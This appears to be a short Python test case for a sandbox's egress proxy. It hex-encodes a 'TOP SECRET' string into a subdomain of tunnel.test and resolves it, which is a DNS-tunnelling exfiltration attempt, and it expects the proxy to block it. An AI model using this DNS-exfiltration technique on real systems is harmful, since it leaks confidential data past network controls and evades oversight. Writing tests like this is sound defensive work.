# what: behind the proxy: hide words in questions to the shim's own names
# expect: blocked
# policy: proxy
# record: name_resolved Denied
words = b'TOP SECRET: the words of the day are many'.hex()
socket.getaddrinfo(f'{words[:60]}.tunnel.test', 80)
escaped('asked')
